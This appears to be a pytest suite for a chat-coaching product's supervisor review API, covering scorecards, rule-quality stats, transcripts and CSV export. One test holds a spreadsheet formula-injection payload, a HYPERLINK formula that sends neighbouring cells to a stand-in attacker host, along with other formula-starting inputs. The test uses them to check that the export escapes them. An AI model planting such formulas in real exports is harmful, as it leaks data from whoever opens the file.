"""Supervisor review: its helpers without a server, then the review API on a real
server with the real coach and Redis."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from server import redisconn
from server.accounts import add_account
from server.review import waiting_since
from tests.server.support import (
    PASSWORD,
    agent,
    apply_a_suggestion,
    close_all,
    console,
    ignore_a_suggestion,
    open_chat,
    running,
    running_with_coach,
    start_chat,
    supervisor_http,
)


def msg(role: str, ts: int) -> dict[str, Any]:
    return {"type": "message", "from": {"role": role}, "ts": ts}


@pytest.mark.parametrize(
    ("newest_first", "since"),
    [
        ([], None),
        ([msg("visitor", 10)], 10),
        ([msg("visitor", 30), msg("visitor", 20), msg("agent", 15), msg("visitor", 10)], 20),
        ([msg("agent", 20), msg("visitor", 10)], None),
        ([msg("supervisor", 20), msg("visitor", 10)], None),
        ([{"type": "assigned", "ts": 25}, msg("visitor", 20), msg("agent", 15)], 20),
    ],
)
def test_waiting_since_is_the_oldest_unanswered_visitor_message(
    newest_first: list[dict[str, Any]], since: int | None
) -> None:
    assert waiting_since(newest_first) == since


# ------------------------------------------------------------------ the review API, served


def today() -> str:
    return datetime.now(UTC).date().isoformat()


async def rename(redis_url: str, name: str, display_name: str) -> None:
    """What ``tactline users add NAME --display-name …`` does to an existing agent."""
    conns = await redisconn.connect(redis_url)
    try:
        await add_account(conns.commands, name, "agent", PASSWORD, display_name=display_name)
    finally:
        await conns.aclose()


async def test_rule_quality_lists_every_rule_that_fired_before_any_false_alarm(
    redis_db: str,
) -> None:
    async with running_with_coach(redis_db) as srv:
        ag, vi, conv = await start_chat(srv, redis_db)
        assert (await apply_a_suggestion(ag, conv))["outcome"] == "applied"  # dont_know
        for text in ("That's not my job.", "That's not my job, sorry."):
            ack = await ag.say(text, conversation=conv)
            assert (await ag.expect("coach_checked", ref=ack["ref"]))["outcome"] == "not_seen"
        async with await supervisor_http(srv, redis_db) as sup:
            t = (await sup.get(f"/api/review/conversations/{conv}")).json()
            fired: dict[str, int] = {}
            for f in t["flags"]:
                fired[f["rule"]] = fired.get(f["rule"], 0) + 1
            [not_my_job] = [r for r in fired if ".not_my_job." in r]
            [dont_know] = [r for r in fired if ".dont_know." in r]
            expected = [
                {"rule": not_my_job, "fires": 2, "false_alarms": 0, "rate": 0.0},
                {"rule": dont_know, "fires": 1, "false_alarms": 0, "rate": 0.0},
            ]
            for params in ({}, {"from": today(), "to": today()}):
                rows = (await sup.get("/api/review/rule-quality", params=params)).json()
                assert rows == expected, params
            yesterday = (datetime.now(UTC).date() - timedelta(days=1)).isoformat()
            gone = await sup.get("/api/review/rule-quality", params={"to": yesterday})
            assert gone.json() == []
            # A false alarm puts its rule first, in the period of the day it fired.
            [flag] = [f for f in t["flags"] if f["rule"] == dont_know]
            r = await sup.post(f"/api/review/flags/{flag['id']}", json={"status": "false_alarm"})
            assert r.status_code == 200
            for params in ({}, {"from": today()}):
                rows = (await sup.get("/api/review/rule-quality", params=params)).json()
                assert [(r["rule"], r["false_alarms"], r["rate"]) for r in rows] == [
                    (dont_know, 1, 1.0),
                    (not_my_job, 0, 0.0),
                ], params
            bad = await sup.get("/api/review/rule-quality", params={"from": "yesterday"})
            assert bad.status_code == 400
        await close_all(vi, ag)


async def test_scorecard_counts_the_flags_the_conversation_list_counts(redis_db: str) -> None:
    # Applied, ignored, not seen and overridden: every flag raised counts once, in the
    # scorecard as in the list and the transcript.
    async with running_with_coach(redis_db) as srv:
        ag, vi, conv = await start_chat(srv, redis_db)
        assert (await apply_a_suggestion(ag, conv))["outcome"] == "applied"
        assert (await ignore_a_suggestion(ag, conv))["outcome"] == "ignored"
        ack = await ag.say("That's not my job.", conversation=conv)
        assert (await ag.expect("coach_checked", ref=ack["ref"]))["outcome"] == "not_seen"
        ask = "Please send me your full card number and the CVV."
        await ag.send(type="message", id="s1", conversation=conv, text=ask)
        await ag.expect("error", ref="s1")
        await ag.send(type="message", id="s1", conversation=conv, text=ask, override=True)
        await ag.expect("coach_checked", ref="s1")
        async with await supervisor_http(srv, redis_db) as sup:
            listed = (await sup.get("/api/review/conversations", params={"agent": "ana"})).json()
            total = sum(c["flags"]["total"] for c in listed["items"])
            t = (await sup.get(f"/api/review/conversations/{conv}")).json()
            outcomes = dict.fromkeys(("applied", "ignored", "overridden", "not_seen"), 0)
            for f in t["flags"]:
                outcomes["overridden" if f["override"] else f["outcome"]] += 1
            assert total == len(t["flags"]) and all(outcomes.values())
            cards = (await sup.get("/api/review/scorecards", params={"agent": "ana"})).json()
            [card] = cards["agents"]
            assert card["messages"] == 4
            assert card["flags_raised"] == total
            assert card["outcomes"] == outcomes
            assert card["flags_per_100_total"] == round(total * 100 / 4, 2)
            assert sum(card["flags_per_100"].values()) == pytest.approx(total * 100 / 4)
            shares = card["outcome_shares"]
            assert (
                shares["applied"] == card["applied_share"] == round(outcomes["applied"] / total, 4)
            )
            assert sum(shares.values()) == pytest.approx(1, abs=1e-3)
            [today_card] = [d for d in card["days"] if d["day"] == today()]
            assert today_card["flags_raised"] == total
        await close_all(vi, ag)


async def test_a_period_ending_before_it_starts_says_both_dates_as_read(redis_db: str) -> None:
    # Without `to` the period ends today, a date the asker never typed: a `from` in the
    # future must be told apart from a `to` typed before it.
    now = datetime.now(UTC).date()
    tomorrow, today_ = (now + timedelta(days=1)).isoformat(), now.isoformat()
    async with running(redis_db) as srv, await supervisor_http(srv, redis_db) as sup:
        for url in ("/api/review/scorecards", "/api/review/rule-quality"):
            r = await sup.get(url, params={"from": tomorrow})
            assert r.status_code == 400, url
            assert r.json()["message"] == (
                f"from {tomorrow} is after to {today_} (today, UTC, as no to was given)"
            ), url
            r = await sup.get(url, params={"from": "2026-11-10", "to": "2026-11-03"})
            assert r.json()["message"] == "from 2026-11-10 is after to 2026-11-03", url


async def test_a_renamed_agent_has_the_new_name_at_once_on_every_server(redis_db: str) -> None:
    async with running_with_coach(redis_db) as one, running(redis_db) as two:
        ag, vi, conv = await start_chat(one, redis_db)  # names the agent in the assigned event
        sups = [await supervisor_http(srv, redis_db) for srv in (one, two)]

        async def named() -> list[set[str | None]]:
            seen = []
            for sup in sups:
                listed = (await sup.get("/api/review/conversations")).json()["items"]
                t = (await sup.get(f"/api/review/conversations/{conv}")).json()
                live = (await sup.get("/api/review/live")).json()["items"]
                cards = (await sup.get("/api/review/scorecards")).json()["agents"]
                seen.append(
                    {c["agent_name"] for c in listed}
                    | {t["agent_name"]}
                    | {c["agent_name"] for c in live}
                    | {c["name"] for c in cards if c["agent"] == "ana"}
                )
            return seen

        await ag.say("Hi, I'm Ana, let me check that for you.", conversation=conv)
        assert await named() == [{"Ana"}, {"Ana"}]
        await rename(redis_db, "ana", "Ana Petrović")
        assert await named() == [{"Ana Petrović"}, {"Ana Petrović"}]
        for sup in sups:
            await sup.aclose()
        await close_all(vi, ag)


async def test_live_shows_the_last_cue_and_the_last_flag(redis_db: str) -> None:
    async with running_with_coach(redis_db) as srv:
        ag, vi, conv = await start_chat(srv, redis_db)
        async with await supervisor_http(srv, redis_db) as sup:
            [row] = (await sup.get("/api/review/live")).json()["items"]
            assert (row["last_cue"], row["last_flag"]) == (None, None)
            assert row["preview"] == "Hello, my parcel is late."
            await vi.say("This is ridiculous, I am so angry!!!")
            await ag.expect("script", conversation=conv)
            ack = await ag.say("Hi, I'm Ana. That's not my job.", conversation=conv)
            await ag.expect("coach_checked", ref=ack["ref"])
            [row] = (await sup.get("/api/review/live")).json()["items"]
            assert row["preview"] == "Hello, my parcel is late."  # the first words, still
            assert row["last_cue"]["category"] == "frustration" and row["last_cue"]["text"]
            assert row["last_flag"]["category"] == "not_my_job"
            assert row["last_flag"]["text"] == "That's not my job"
            assert row["last_flag"]["outcome"] == "not_seen"
        await close_all(vi, ag)


async def test_agent_filter_finds_chats_a_supervisor_took_over(redis_db: str) -> None:
    # Taken over, answered, then handed back: the chat is the agent's again, and the
    # supervisor who held it still finds it under their name.
    async with running_with_coach(redis_db) as srv:
        ag, vi, conv = await start_chat(srv, redis_db)
        async with await supervisor_http(srv, redis_db) as sup:
            boss = await console(srv, "sanja")
            await boss.send(type="take_over", conversation=conv)
            await boss.expect("assignment", conversation=conv)
            await boss.say("Hi, I'm Sanja, the supervisor.", conversation=conv)
            await boss.send(type="transfer", id="back", conversation=conv, to_agent="ana")
            await ag.expect("assignment", conversation=conv)

            async def listed(agent: str) -> list[str]:
                r = await sup.get("/api/review/conversations", params={"agent": agent})
                return [c["conversation"] for c in r.json()["items"]]

            assert await listed("sanja") == [conv]
            assert await listed("ana") == [conv]
            assert await listed("nobody") == []
            await boss.close()
        await close_all(vi, ag)


async def test_a_chat_handed_back_lists_its_agents_in_the_order_they_held_it(
    redis_db: str,
) -> None:
    # Sanja takes Ana's chat over and hands it back; Ana closes it. The list, the
    # transcript and the TXT export end with Ana, who held it last, not with Sanja.
    async with running_with_coach(redis_db) as srv:
        ag, vi, conv = await start_chat(srv, redis_db)
        async with await supervisor_http(srv, redis_db) as sup:
            boss = await console(srv, "sanja")
            await boss.send(type="take_over", conversation=conv)
            await boss.expect("assignment", conversation=conv)
            await boss.send(type="transfer", id="back", conversation=conv, to_agent="ana")
            await ag.expect("assignment", conversation=conv)
            await ag.send(type="close", conversation=conv)
            await vi.expect("closed")
            [item] = (await sup.get("/api/review/conversations")).json()["items"]
            held = ["ana", "sanja", "ana"]
            assert [a["id"] for a in item["agents"]] == held
            t = (await sup.get(f"/api/review/conversations/{conv}")).json()
            assert [a["id"] for a in t["agents"]] == held
            url = f"/api/review/conversations/{conv}/export"
            txt = await sup.get(url, params={"format": "txt"})
            assert "agents Ana -> Sanja -> Ana)" in txt.text.splitlines()[0]
            for name in ("ana", "sanja"):  # the filter still finds it under each of them
                r = await sup.get("/api/review/conversations", params={"agent": name})
                assert [c["conversation"] for c in r.json()["items"]] == [conv], name
            await boss.close()
        await close_all(vi, ag)


async def test_csv_export_names_the_agent_who_sent_each_flagged_message(redis_db: str) -> None:
    # Ana ignores a suggestion, then supervisor Sanja takes the chat over and says
    # "That's not my job.": each flag's row names its own sender, by id and by name, in
    # the export of the one conversation and in that of the list.
    async with running_with_coach(redis_db) as srv:
        ag, vi, conv = await start_chat(srv, redis_db)
        assert (await ignore_a_suggestion(ag, conv))["outcome"] == "ignored"
        async with await supervisor_http(srv, redis_db) as sup:
            boss = await console(srv, "sanja")
            await boss.send(type="take_over", conversation=conv)
            await boss.expect("assignment", conversation=conv)
            ack = await boss.say("That's not my job.", conversation=conv)
            await boss.expect("coach_checked", ref=ack["ref"])
            for url in (f"/api/review/conversations/{conv}/export", "/api/review/export"):
                got = await sup.get(url, params={"format": "csv"})
                rows = list(csv.DictReader(io.StringIO(got.text)))
                flagged = {
                    (r["text"], r["flag_agent"], r["flag_agent_name"])
                    for r in rows
                    if r["flag_rule"]
                }
                assert flagged == {
                    ("Calm down.", "ana", "Ana"),
                    ("That's not my job.", "sanja", "Sanja"),
                }, url
                unflagged = [r for r in rows if not r["flag_rule"]]
                assert unflagged and all(
                    (r["flag_agent"], r["flag_agent_name"]) == ("", "") for r in unflagged
                ), url
            await boss.close()
        await close_all(vi, ag)


async def test_csv_export_cells_a_spreadsheet_would_run_are_text(redis_db: str) -> None:
    # The visitor types their name, their messages and their rating comment; in a CSV
    # that Excel opens, none of them may become a live formula (a link that sends the
    # cells next to it away). Each such cell starts with ' and reads as it was typed.
    formula = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
    async with running_with_coach(redis_db) as srv:
        ag = await agent(srv, redis_db, "ana")
        vi, conv = await open_chat(srv, ag, formula, name="@SUM(1+1)")
        for typed in ("+1 555 0100", "-2+3", "\t=1+1", "\r=1+1", "x=1, fine"):
            await vi.say(typed)
        await ag.send(type="close", conversation=conv)
        await vi.expect("closed")
        await vi.send(type="csat", id="r1", conversation=conv, score=1, comment="=1+1")
        await vi.expect("pong", ref="r1")
        async with await supervisor_http(srv, redis_db) as sup:
            for url in (f"/api/review/conversations/{conv}/export", "/api/review/export"):
                got = await sup.get(url, params={"format": "csv"})
                rows = list(csv.DictReader(io.StringIO(got.content.decode("utf-8-sig"))))
                said = [(r["from_name"], r["text"]) for r in rows if r["from"] == "visitor"]
                assert said == [
                    ("'@SUM(1+1)", "'" + formula),
                    ("'@SUM(1+1)", "'+1 555 0100"),
                    ("'@SUM(1+1)", "'-2+3"),
                    ("'@SUM(1+1)", "'\t=1+1"),
                    ("'@SUM(1+1)", "'\r=1+1"),
                    ("'@SUM(1+1)", "x=1, fine"),
                ], url
                assert {r["csat_comment"] for r in rows} == {"'=1+1"}, url
                assert all(r["conversation"] == conv for r in rows), url
        await close_all(vi, ag)


async def test_the_list_tells_chats_apart_by_visitor_and_first_words(redis_db: str) -> None:
    async with running_with_coach(redis_db) as srv:
        ag, vi, conv = await start_chat(srv, redis_db)
        await vi.say("And the tracking page says nothing.")
        async with await supervisor_http(srv, redis_db) as sup:
            [item] = (await sup.get("/api/review/conversations")).json()["items"]
            assert item["conversation"] == conv
            assert item["visitor"]["name"] == "Marko"
            assert item["preview"] == "Hello, my parcel is late."  # the first message
        await close_all(vi, ag)
